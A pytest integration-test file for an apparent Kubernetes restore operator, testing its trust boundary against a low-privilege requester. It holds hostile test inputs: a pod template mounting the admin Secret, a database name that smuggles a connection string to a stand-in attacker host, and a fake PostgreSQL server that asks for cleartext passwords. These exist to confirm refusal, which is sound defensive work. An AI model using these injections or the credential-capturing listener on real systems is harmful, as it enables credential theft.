"""The trust boundary, tried as an attacker would on the real local stack: a real Kubernetes user
(impersonated through the API server, with RBAC of its own) who may create RestoreRequests in the
vault's namespace and read them, and nothing else: no Secret, no Job, no pod. Whatever such a
request asks for, the operator does only what that user could have done, and refuses the rest
before anything is created, with no secret value reaching status, an Event or another host."""

from __future__ import annotations

import base64
import json
import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from devstack.vault import ready_replicas
from tests.e2e.vaults import DB_SERVICES, ENVIRONMENT, Vault

pytestmark = pytest.mark.integration

REQUESTER = "requester@example.com"
# Somewhere on loopback that is not the vault's server: where a forged manifest would send the
# admin login, if its database name were read as a connection string.
ATTACKER_HOST, ATTACKER_PORT = "127.0.0.77", 55432


def grant_requester(vault: Vault) -> None:
    """The requester's whole RBAC: RestoreRequests in the vault's namespace."""
    rules = [{"apiGroups": ["walwarden.io"], "resources": ["restorerequests"], "verbs": ["create", "get", "list"]}]
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "requester"}}
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "requester"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "requester"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": REQUESTER}],
    }
    vault.apply(role | {"rules": rules})
    vault.apply(binding)
    for verb, resource in [("get", "secrets"), ("create", "jobs"), ("create", "pods"), ("create", "secrets")]:
        allowed = vault.cluster.kubectl(
            ["auth", "can-i", verb, resource, "-n", vault.namespace, f"--as={REQUESTER}"], check=False
        )
        assert allowed.stdout.strip() == "no", f"the requester must not {verb} {resource}"


def create_as_requester(vault: Vault, manifest: dict, check: bool = True):
    return vault.cluster.kubectl(
        ["create", "-n", vault.namespace, f"--as={REQUESTER}", "-f", "-"], stdin=json.dumps(manifest), check=check
    )


def drill_request(vault: Vault, name: str, **spec) -> dict:
    body = {"mode": "Drill", "source": {"backupRef": {"name": "nightly"}}}
    body["target"] = {"secretRef": {"name": "vault-db-admin"}}
    body.update(spec)
    return {"apiVersion": "walwarden.io/v1alpha1", "kind": "RestoreRequest", "metadata": {"name": name}, "spec": body}


def secret_values(vault: Vault) -> list[str]:
    """Every password the namespace holds: none may show in what the requester can read."""
    values = [vault.postgres.password]
    for service in DB_SERVICES:
        values.append(base64.b64decode(vault.db_info(service)["DB_PASSWORD"]).decode())
    return [value for value in values if value]


def readable_by_requester(vault: Vault, name: str) -> str:
    request = vault.get("restorerequests", name)
    events = vault.cluster.kubectl_json(
        ["get", "events", "-n", vault.namespace, "--field-selector", f"involvedObject.name={name}"]
    )
    return json.dumps(request) + json.dumps(events) + vault.operator.log()


def jobs_of(vault: Vault, name: str) -> list[str]:
    listing = vault.cluster.kubectl_json(["get", "jobs", "-n", vault.namespace, "-l", f"walwarden.io/request={name}"])
    return [job["metadata"]["name"] for job in listing["items"]]


def record_first_bytes(received: list[bytes]):
    def serve(connection: socket.socket) -> None:
        received.append(connection.recv(65536))

    return serve


@contextmanager
def listener(host: str, port: int, serve=None) -> Iterator[list[bytes]]:
    """A TCP server on loopback; by default it records the first bytes anyone sends it."""
    received: list[bytes] = []
    serve_one = serve or record_first_bytes(received)
    server = socket.create_server((host, port))
    server.settimeout(0.5)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, _ = server.accept()
            except TimeoutError:
                continue
            with connection:
                connection.settimeout(5)
                try:
                    serve_one(connection)
                except OSError:
                    received.append(b"")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield received
    finally:
        stop.set()
        thread.join()
        server.close()


def test_a_drills_check_job_cannot_be_a_pod_template_and_a_reserved_name_cannot_be_squatted(vault: Vault):
    grant_requester(vault)
    # The pod template that once ran with any ServiceAccount and mounted the admin Secret.
    template = {
        "spec": {
            "serviceAccountName": "walwarden",
            "containers": [{"name": "x", "image": "busybox", "volumeMounts": [{"name": "a", "mountPath": "/a"}]}],
            "volumes": [{"name": "a", "secret": {"secretName": "vault-db-admin"}}],
        }
    }
    escape = drill_request(
        vault, "escape", drill={"job": {"image": "busybox", "command": ["true"], "template": template}}
    )
    refused = create_as_requester(vault, escape, check=False)
    assert refused.returncode != 0 and 'unknown field "spec.drill.job.template"' in refused.stderr
    # A Switch restore's sibling name (<db>_walwarden_<uid8>), taken by a drill before the switch.
    target = {"secretRef": {"name": "vault-db-admin"}, "database": f"{vault.database}_walwarden_5e5f0e3c"}
    refused = create_as_requester(vault, drill_request(vault, "squat", target=target), check=False)
    assert refused.returncode != 0 and "a name Walwarden reserves for its own databases" in refused.stderr
    listing = vault.cluster.kubectl_json(["get", "restorerequests", "-n", vault.namespace])
    assert listing["items"] == []  # neither was stored


def test_a_forged_manifest_cannot_send_the_admin_login_to_another_host(vault: Vault):
    """A manifest whose database name is a connection string (`host=... dbname=x`), beside a real
    dump, restored by artifact URI: refused on reading, no Job made, nothing sent anywhere."""
    grant_requester(vault)
    backup = vault.backup()
    s3 = vault.s3.client()
    bucket, manifest_key = backup["status"]["artifact"]["manifestUri"].removeprefix("s3://").split("/", 1)
    manifest = json.loads(s3.get_object(Bucket=bucket, Key=manifest_key)["Body"].read())
    dump = manifest["databases"][0]
    forged_key = "forged/vault.dump"
    s3.copy_object(Bucket=bucket, Key=forged_key, CopySource={"Bucket": bucket, "Key": dump["key"]})
    dump.update(
        name=f"host={ATTACKER_HOST} port={ATTACKER_PORT} sslmode=disable dbname=x",
        key=forged_key,
        uri=f"s3://{bucket}/{forged_key}",
    )
    manifest.pop("signature", None)
    s3.put_object(Bucket=bucket, Key="forged/manifest.json", Body=json.dumps(manifest).encode())
    request = drill_request(vault, "forged", source={"artifact": f"s3://{bucket}/{forged_key}"})
    request["spec"]["storage"] = vault.storage()
    request["spec"]["target"]["database"] = "forged_drill"
    with listener(ATTACKER_HOST, ATTACKER_PORT) as received:
        create_as_requester(vault, request)
        finished = vault.wait_finished("restorerequests", "forged")
    status = finished["status"]
    assert status["phase"] == "Failed", vault.describe("restorerequests", "forged")
    failed = next(c for c in status["conditions"] if c["type"] == "Failed")
    assert failed["reason"] == "ManifestInvalid", failed
    assert "databases.0.name" in failed["message"] and "Nothing was touched" in failed["message"]
    assert received == []  # nothing ever connected to the attacker's host
    assert jobs_of(vault, "forged") == []
    seen = readable_by_requester(vault, "forged")
    assert not [value for value in secret_values(vault) if value in seen]


def test_a_secret_name_template_cannot_read_another_namespaces_secrets_with_the_operators_identity(vault: Vault):
    grant_requester(vault)
    vault.backup()
    victim = {"topology": {"secretNameTemplate": "prod.victim-ns.{service}.db-info"}}
    redirect = {"dbHost": "127.0.0.1", "environment": "prod", "secretBackend": "AWSSecretsManager"}
    request = vault.restore_request("cross-namespace", mode="Redirected", redirect=redirect, **victim)
    request["spec"]["target"] = {"secretRef": {"name": "vault-db-admin"}, "database": "restored"}
    before = {service: vault.db_info(service) for service in DB_SERVICES}
    create_as_requester(vault, request)
    finished = vault.wait_finished("restorerequests", "cross-namespace")
    failed = next(c for c in finished["status"]["conditions"] if c["type"] == "Failed")
    assert failed["reason"] == "SecretNameLeavesNamespace", vault.describe("restorerequests", "cross-namespace")
    steps = {step["name"]: step["state"] for step in finished["status"]["steps"]}
    assert steps["Validate"] == "Failed", steps
    assert all(steps.get(step) in (None, "Skipped") for step in ("Build", "ScaleDown", "Reconfigure")), steps
    assert {service: vault.db_info(service) for service in DB_SERVICES} == before
    assert jobs_of(vault, "cross-namespace") == []


def test_an_oversized_manifest_is_refused_without_being_read(vault: Vault):
    """A manifest padded past the operator's bound (valid JSON, 2 MiB of trailing spaces): a dry
    run by artifact URI fails in Validate, instead of the operator reading whatever size it is."""
    grant_requester(vault)
    backup = vault.backup()
    s3 = vault.s3.client()
    bucket, manifest_key = backup["status"]["artifact"]["manifestUri"].removeprefix("s3://").split("/", 1)
    manifest = s3.get_object(Bucket=bucket, Key=manifest_key)["Body"].read()
    dump_key = backup["status"]["artifact"]["uri"].removeprefix(f"s3://{bucket}/")
    s3.copy_object(Bucket=bucket, Key="padded/vault.dump", CopySource={"Bucket": bucket, "Key": dump_key})
    text = json.loads(manifest)
    for entry in text["databases"]:
        entry.update(key="padded/vault.dump", uri=f"s3://{bucket}/padded/vault.dump")
    s3.put_object(Bucket=bucket, Key="padded/manifest.json", Body=json.dumps(text).encode() + b" " * (2 << 20))
    request = vault.restore_request("padded", source={"artifact": f"s3://{bucket}/padded/vault.dump"}, dryRun=True)
    request["spec"] |= {"storage": vault.storage(), "target": {"secretRef": {"name": "vault-db-admin"}}}
    create_as_requester(vault, request)
    finished = vault.wait_finished("restorerequests", "padded")
    failed = next(c for c in finished["status"]["conditions"] if c["type"] == "Failed")
    assert failed["reason"] == "ManifestTooLarge", vault.describe("restorerequests", "padded")
    assert "Nothing was touched" in failed["message"] or "nothing was touched" in failed["message"]


def postgres_asking_for_a_cleartext_password(received: list[bytes]):
    """What a listener pretending to be PostgreSQL does with each connection: answer the startup
    with AuthenticationCleartextPassword, then record what comes back (a password message is 'p')."""

    def serve(connection: socket.socket) -> None:
        first = connection.recv(8)
        if len(first) == 8 and struct.unpack("!ii", first)[1] == 80877103:  # SSLRequest: no TLS here
            connection.sendall(b"N")
            first = connection.recv(8)
        length = struct.unpack("!i", first[:4])[0]
        connection.recv(length - len(first))  # the rest of the startup message
        connection.sendall(b"R" + struct.pack("!ii", 8, 3))
        received.append(connection.recv(65536))

    return serve


def test_a_redirect_to_a_host_asking_for_a_cleartext_password_gets_no_password(vault: Vault):
    """A Redirected restore whose dbHost is a listener of the requester's: the logins Job proves
    every service's login before the stop, by SCRAM only, so the listener asking for a cleartext
    password gets none, the restore fails in Preflight and nothing is stopped."""
    grant_requester(vault)
    vault.backup()
    received: list[bytes] = []
    request = vault.restore_request("redirect-listener", mode="Redirected")
    request["spec"]["target"] = {"secretRef": {"name": "vault-db-admin"}, "database": "redirect_listener"}
    request["spec"]["redirect"] = {"dbHost": ATTACKER_HOST, "dbPort": ATTACKER_PORT + 1, "environment": ENVIRONMENT}
    before = ready_replicas(vault.cluster, vault.namespace)
    with listener(ATTACKER_HOST, ATTACKER_PORT + 1, postgres_asking_for_a_cleartext_password(received)):
        create_as_requester(vault, request)
        finished = vault.wait_finished("restorerequests", "redirect-listener")
    failed = next(c for c in finished["status"]["conditions"] if c["type"] == "Failed")
    assert failed["reason"] == "ServiceLoginNotScram", vault.describe("restorerequests", "redirect-listener")
    assert received, "the logins Job never reached the listener"
    assert not [message for message in received if message.startswith(b"p")], received  # no password message
    passwords = secret_values(vault)
    assert not [p for p in passwords if any(p.encode() in message for message in received)]
    steps = {step["name"]: step["state"] for step in finished["status"]["steps"]}
    assert steps["Preflight"] == "Failed" and steps.get("ScaleDown") in (None, "Skipped"), steps
    assert ready_replicas(vault.cluster, vault.namespace) == before


def test_a_verify_header_from_a_secret_goes_only_over_https_and_only_from_a_secret_that_opted_in(vault: Vault):
    """The admin Secret as the accounts check's Authorization header: over http it is refused by the
    API server; over https, the Secret has not opted in (a label only whoever may write Secrets sets),
    so the restore fails in Preflight with every service running and nothing sent."""
    grant_requester(vault)
    vault.backup()
    header = {"name": "vault-db-admin", "key": "password"}
    over_http = vault.restore_request("verify-http", safetyBackup=False)
    over_http["spec"]["verify"] |= {
        "accountsUrl": f"http://{ATTACKER_HOST}:{ATTACKER_PORT}/",
        "authHeaderSecretRef": header,
    }
    refused = create_as_requester(vault, over_http, check=False)
    assert refused.returncode != 0 and "must then be https://" in refused.stderr
    over_https = vault.restore_request("verify-https", safetyBackup=False)
    over_https["spec"]["verify"] |= {
        "accountsUrl": f"https://{ATTACKER_HOST}:{ATTACKER_PORT}/",
        "authHeaderSecretRef": header,
    }
    before = ready_replicas(vault.cluster, vault.namespace)
    with listener(ATTACKER_HOST, ATTACKER_PORT) as received:
        create_as_requester(vault, over_https)
        finished = vault.wait_finished("restorerequests", "verify-https")
    failed = next(c for c in finished["status"]["conditions"] if c["type"] == "Failed")
    assert failed["reason"] == "SecretNotOptedIn", vault.describe("restorerequests", "verify-https")
    assert "walwarden.io/verify-header=true" in failed["message"]
    assert received == []
    steps = {step["name"]: step["state"] for step in finished["status"]["steps"]}
    assert steps.get("ScaleDown") in (None, "Skipped"), steps
    assert ready_replicas(vault.cluster, vault.namespace) == before
    assert not [value for value in secret_values(vault) if value in readable_by_requester(vault, "verify-https")]


def test_an_artifact_on_an_s3_server_of_the_requesters_choosing_is_refused_before_anything_is_sent(vault: Vault):
    """The operator reads manifests, and runner Jobs the artifact, from the storage a request names,
    with its namespace's credentials: only the locations the operator's configuration gives the
    namespace are used (the local stack's: its own S3 server on 127.0.0.1), nothing else is contacted."""
    grant_requester(vault)
    vault.backup()
    storage = vault.storage()
    storage["s3"]["endpoint"] = f"http://{ATTACKER_HOST}:{ATTACKER_PORT}"
    request = drill_request(vault, "elsewhere", source={"artifact": f"s3://{vault.bucket}/x/vault.dump"})
    request["spec"]["storage"] = storage
    with listener(ATTACKER_HOST, ATTACKER_PORT) as received:
        create_as_requester(vault, request)
        finished = vault.wait_finished("restorerequests", "elsewhere")
    failed = next(c for c in finished["status"]["conditions"] if c["type"] == "Failed")
    assert failed["reason"] == "StorageNotAllowed", vault.describe("restorerequests", "elsewhere")
    assert f"on http://{ATTACKER_HOST}:{ATTACKER_PORT}" in failed["message"]
    assert received == []  # not even a request signed with the namespace's S3 credentials
    assert jobs_of(vault, "elsewhere") == []
